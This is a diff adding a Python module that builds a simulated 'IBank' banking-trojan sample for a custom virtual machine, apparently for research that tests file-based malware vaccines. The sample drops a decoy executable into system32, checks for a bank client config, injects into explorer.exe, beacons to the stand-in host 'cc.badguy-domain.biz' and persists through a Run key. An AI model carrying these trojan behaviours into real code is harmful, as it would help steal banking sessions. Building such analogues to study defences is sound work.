@@ -1,0 +1,48 @@
+"""IBank analogue (banking trojan; Table VII: one file vaccine, 100%).
+
+Models Table III rows 2-3 (``%system32%\\twinrsdi.exe`` /
+``dwdsregt.exe`` droppers with impacts ``P,H`` / ``P,H,N``): failing the
+dropper file creation terminates the sample before it can hijack the banking
+session, so the locked-decoy file vaccine gives full immunization.
+"""
+
+from __future__ import annotations
+
+from ..builder import (
+    AsmBuilder,
+    frag_beacon,
+    frag_drop_file,
+    frag_exit,
+    frag_inject_process,
+    frag_persist_run_key,
+    frag_read_config_file,
+)
+
+FAMILY = "ibank"
+CATEGORY = "trojan"
+
+DROPPER = "%system32%\\twinrsdi.exe"
+
+
+def build(variant: int = 0) -> "Program":
+    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
+
+    bail = b.unique("bail")
+    frag_drop_file(b, DROPPER, bail, content="MZibank")
+
+    # Targeted check: only steal when the bank client's config exists.
+    no_target = b.unique("no_target")
+    frag_read_config_file(b, "c:\\ibank\\client.cfg", no_target)
+    frag_inject_process(b, "explorer.exe")
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="IBNK")
+    b.label(no_target)
+
+    frag_persist_run_key(b, "twinrsdi", "c:\\windows\\system32\\twinrsdi.exe")
+    b.emit("    halt")
+
+    b.label(bail)
+    frag_exit(b, 2)
+    return b.build(family=FAMILY, category=CATEGORY, variant=variant)
+
+
+from ...vm.program import Program  # noqa: E402
